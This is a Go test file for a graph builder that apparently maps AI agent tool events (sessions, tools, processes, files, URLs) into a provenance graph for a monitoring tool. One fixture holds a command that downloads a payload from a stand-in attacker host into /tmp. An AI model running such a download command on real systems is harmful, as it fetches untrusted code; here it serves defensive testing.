package graphbuilder

import (
	"context"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/IngaCherny/AgentsLeak/internal/models"
)

// fakeStore records every node/edge it's asked to save. Nodes follow the
// real store's upsert-by-identity contract (one id per distinct (type,
// value)); edges are appended as given, one entry per save.
type fakeStore struct {
	nodesByKey map[string]uuid.UUID
	nodes      []*models.GraphNode
	edges      []*models.GraphEdge
}

func newFakeStore() *fakeStore {
	return &fakeStore{nodesByKey: map[string]uuid.UUID{}}
}

func (f *fakeStore) SaveGraphNode(ctx context.Context, n *models.GraphNode) (uuid.UUID, error) {
	key := string(n.NodeType) + "\x00" + n.Value
	if id, ok := f.nodesByKey[key]; ok {
		return id, nil
	}
	f.nodesByKey[key] = n.ID
	f.nodes = append(f.nodes, n)
	return n.ID, nil
}

func (f *fakeStore) SaveGraphEdge(ctx context.Context, e *models.GraphEdge) (uuid.UUID, error) {
	f.edges = append(f.edges, e)
	return e.ID, nil
}

func (f *fakeStore) nodeByType(t models.NodeType) *models.GraphNode {
	for _, n := range f.nodes {
		if n.NodeType == t {
			return n
		}
	}
	return nil
}

func (f *fakeStore) edgesByRelation(r models.EdgeRelation) []*models.GraphEdge {
	var out []*models.GraphEdge
	for _, e := range f.edges {
		if e.Relation == r {
			out = append(out, e)
		}
	}
	return out
}

func TestBuild_FileWriteEvent(t *testing.T) {
	fs := newFakeStore()
	e := &models.Event{
		ID:        uuid.New(),
		SessionID: "sess-1",
		ToolName:  "Write",
		Category:  models.CategoryFileWrite,
		FilePaths: []string{"/tmp/out.txt"},
	}

	require.NoError(t, Build(context.Background(), fs, e))

	session := fs.nodeByType(models.NodeSession)
	tool := fs.nodeByType(models.NodeTool)
	file := fs.nodeByType(models.NodeFile)
	require.NotNil(t, session)
	require.NotNil(t, tool)
	require.NotNil(t, file)
	assert.Equal(t, "/tmp/out.txt", file.Value)

	assert.Len(t, fs.edgesByRelation(models.EdgeUses), 1)
	writeEdges := fs.edgesByRelation(models.EdgeWrites)
	require.Len(t, writeEdges, 1)
	assert.Equal(t, tool.ID, writeEdges[0].SourceID)
	assert.Equal(t, file.ID, writeEdges[0].TargetID)
}

func TestBuild_CommandWithFileRefsAndURL(t *testing.T) {
	fs := newFakeStore()
	e := &models.Event{
		ID:        uuid.New(),
		SessionID: "sess-1",
		ToolName:  "Bash",
		Category:  models.CategoryCommandExec,
		Commands:  []string{"curl http://evil.example/x -o /tmp/payload"},
		URLs:      []string{"http://evil.example/x"},
	}

	require.NoError(t, Build(context.Background(), fs, e))

	cmdGroup := fs.nodeByType(models.NodeCommand)
	process := fs.nodeByType(models.NodeProcess)
	url := fs.nodeByType(models.NodeURL)
	require.NotNil(t, cmdGroup)
	require.NotNil(t, process)
	require.NotNil(t, url)
	assert.Equal(t, "evil.example", url.Label)

	// The process connects to the URL node, not the tool directly, because
	// a process was created for this command.
	connectsTo := fs.edgesByRelation(models.EdgeConnectsTo)
	require.Len(t, connectsTo, 1)
	assert.Equal(t, process.ID, connectsTo[0].SourceID)
	assert.Equal(t, url.ID, connectsTo[0].TargetID)

	writes := fs.edgesByRelation(models.EdgeWrites)
	require.Len(t, writes, 1)
	writtenFile := fs.nodeByType(models.NodeFile)
	require.NotNil(t, writtenFile)
	assert.Equal(t, "/tmp/payload", writtenFile.Value)
	assert.Equal(t, writtenFile.ID, writes[0].TargetID)
}

func TestBuild_URLWithoutCommandConnectsFromTool(t *testing.T) {
	fs := newFakeStore()
	e := &models.Event{
		ID:        uuid.New(),
		SessionID: "sess-1",
		ToolName:  "WebFetch",
		Category:  models.CategoryNetworkAccess,
		URLs:      []string{"https://api.example.com/data"},
	}

	require.NoError(t, Build(context.Background(), fs, e))

	tool := fs.nodeByType(models.NodeTool)
	connectsTo := fs.edgesByRelation(models.EdgeConnectsTo)
	require.Len(t, connectsTo, 1)
	assert.Equal(t, tool.ID, connectsTo[0].SourceID)
}

func TestBuild_SessionLabelTruncation(t *testing.T) {
	fs := newFakeStore()
	e := &models.Event{
		ID:        uuid.New(),
		SessionID: "a-very-long-session-identifier-string",
	}
	require.NoError(t, Build(context.Background(), fs, e))

	session := fs.nodeByType(models.NodeSession)
	require.NotNil(t, session)
	assert.Len(t, session.Label, 16)
	assert.Equal(t, e.SessionID, session.Value)
}
